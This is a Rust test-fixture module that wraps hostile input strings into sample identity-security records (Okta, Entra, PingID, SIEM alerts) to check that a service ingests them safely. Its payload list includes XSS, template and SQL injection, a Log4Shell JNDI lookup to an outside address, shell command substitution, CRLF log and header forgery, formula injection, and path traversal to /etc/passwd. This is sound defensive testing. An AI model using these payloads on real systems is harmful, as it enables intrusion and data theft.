//! Sound records whose texts are not: they are taken, tamed, and never run.

use serde_json::{Value, json};

use super::case::{Case, mark, now};

/// What `{{ 2897 * 4799 }}` would be.
pub(super) const PRODUCT: &str = "13902703";
/// How a log line that a text forged would begin.
pub(super) const FORGED: &str = "2026-01-01T00:00:00Z ERROR forged";

pub(super) fn cases() -> Vec<Case> {
    let long = "A".repeat(10_000);
    let texts: [(&str, &str); 22] = [
        ("script", "<script>alert(1)</script>"),
        ("image", "\"><img src=x onerror=alert(1)>"),
        ("template", "{{ 2897 * 4799 }}"),
        ("statement", "{% for x in range(9999999) %}{{ 2897 * 4799 }}{% endfor %}"),
        ("expression", "${2897*4799} #{2897*4799} <%= 2897*4799 %>"),
        ("lookup", "${jndi:ldap://203.0.113.66/a}"),
        ("sql", "'; DROP TABLE incidents; --"),
        ("ldap", "*)(uid=*))(|(uid=*"),
        ("odata", "x' or userPrincipalName ne '"),
        ("okta-search", "x\" or status eq \"ACTIVE"),
        ("sheet", "=cmd|'/c calc'!A0"),
        ("log-line", "x\r\n2026-01-01T00:00:00Z ERROR forged\nnext"),
        ("header", "x\r\nSet-Cookie: a=b\r\n\r\n<html>"),
        ("bidi", "\u{202e}elpmaxe\u{202c}\u{2066}x\u{2069}"),
        ("hidden", "a\u{200b}b\u{feff}c\u{e0041}d\u{0}e\u{1b}[31mf\u{7f}g\u{9b}h"),
        ("path", "../../../../etc/passwd"),
        ("path-in-url", "..%2f..%2fadmin?x=1#y"),
        ("shell", "$(touch /tmp/x); `id` | sh"),
        ("format", "%s%n%x {0} {:?} \\u0000 \\x00"),
        ("marks", "![x](https://203.0.113.66/a) <@U123> *[b](javascript:alert(1))* @everyone"),
        ("zalgo", "Z\u{0335}\u{0334}\u{0336}a\u{0301}\u{0301}\u{0301}🏴\u{200d}☠\u{fe0f}"),
        ("long", &long),
    ];
    let mut cases = Vec::new();
    for (what, text) in texts {
        for (source, record) in RECORDS {
            let name = format!("hostile-{what}-in-{source}");
            let body = record(&mark(&name), text);
            cases.push(Case::to(source, name, body.to_string()));
        }
    }
    let long = "B".repeat(100_000);
    for (source, record) in RECORDS {
        let name = format!("hostile-100-kb-in-{source}");
        let body = record(&mark(&name), "x").to_string();
        let marked = mark(&name);
        // Once, where the message is.
        let body = body.replacen(&format!("{marked} x"), &format!("{marked} {long}"), 1);
        cases.push(Case::to(source, name, body));
    }
    cases
}

/// Characters that nobody sees, or that change what others look like.
pub(super) fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}'
            | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

type Make = fn(&str, &str) -> Value;

/// A record of each kind with a hostile text in every field that is text; the mark is in its message.
const RECORDS: [(&str, Make); 6] = [
    ("mfa", event),
    ("siem", alert),
    ("desk", report),
    ("oktahook", okta),
    ("signins", entra),
    ("ping", ping),
];

fn event(mark: &str, text: &str) -> Value {
    json!({"message": format!("{mark} {text}"), "id": format!("{mark}{text}"), "kind": "factor_change",
        "account": {"login": text, "provider_id": text}, "time": now().to_rfc3339(),
        "outcome": "succeeded", "place": {"country": text, "city": text}, "device": text, "app": text,
        "session": text, "correlation": text, "factor_id": text})
}

fn alert(mark: &str, text: &str) -> Value {
    json!({"reason": format!("{mark} {text}"), "id": format!("{mark}{text}"), "kind": "mfa_fatigue",
        "account": {"login": text, "provider_id": text}, "stage": "confirmed", "rule": text,
        "events": [text], "link": format!("https://siem.example/{text}")})
}

fn report(mark: &str, text: &str) -> Value {
    json!({"text": format!("{mark} {text}"), "id": format!("{mark}{text}"), "proof": "relayed",
        "account": {"login": text, "provider_id": text}})
}

fn okta(mark: &str, text: &str) -> Value {
    json!({"eventId": format!("{mark}{text}"), "data": {"events": [{
        "displayMessage": format!("{mark} {text}"), "uuid": format!("{mark}{text}"),
        "published": now().to_rfc3339(), "eventType": "user.session.start",
        "actor": {"id": text, "alternateId": text, "displayName": text, "type": text},
        "outcome": {"result": "SUCCESS", "reason": text},
        "client": {"ipAddress": text, "geographicalContext": {"country": text, "city": text}},
        "securityContext": {"asNumber": text}, "device": {"id": text},
        "authenticationContext": {"externalSessionId": text, "credentialType": text},
        "transaction": {"id": text},
        "debugContext": {"debugData": {"requestUri": text, "behaviors": text, "factorIntent": text}},
        "target": [{"type": "AppInstance", "displayName": text}, {"type": text, "id": text}]}]}})
}

fn entra(mark: &str, text: &str) -> Value {
    // Its message is the reason for the failure.
    json!({"records": [{"category": "SignInLogs", "properties": {
        "status": {"errorCode": 50126, "failureReason": format!("{mark} {text}"), "additionalDetails": text},
        "id": mark, "createdDateTime": now().to_rfc3339(), "userPrincipalName": text, "userId": text,
        "appDisplayName": text, "ipAddress": text, "correlationId": text, "clientAppUsed": text,
        "location": {"city": text, "countryOrRegion": text, "state": text},
        "deviceDetail": {"deviceId": text, "displayName": text},
        "authenticationDetails": [{"authenticationMethod": text, "succeeded": false,
            "authenticationStepResultDetail": text, "authenticationStepDateTime": now().to_rfc3339()}]}}]})
}

fn ping(mark: &str, text: &str) -> Value {
    json!({"id": format!("{mark}{text}"), "source": "PINGID", "recorded": now().to_rfc3339(),
        "actors": [{"type": "user", "name": text, "id": text}],
        "resources": [{"ipaddress": text, "websession": text, "applicationname": text, "pingidmsg": text}],
        "result": {"status": "FAILURE", "message": format!("{mark} Denied {text}")}})
}
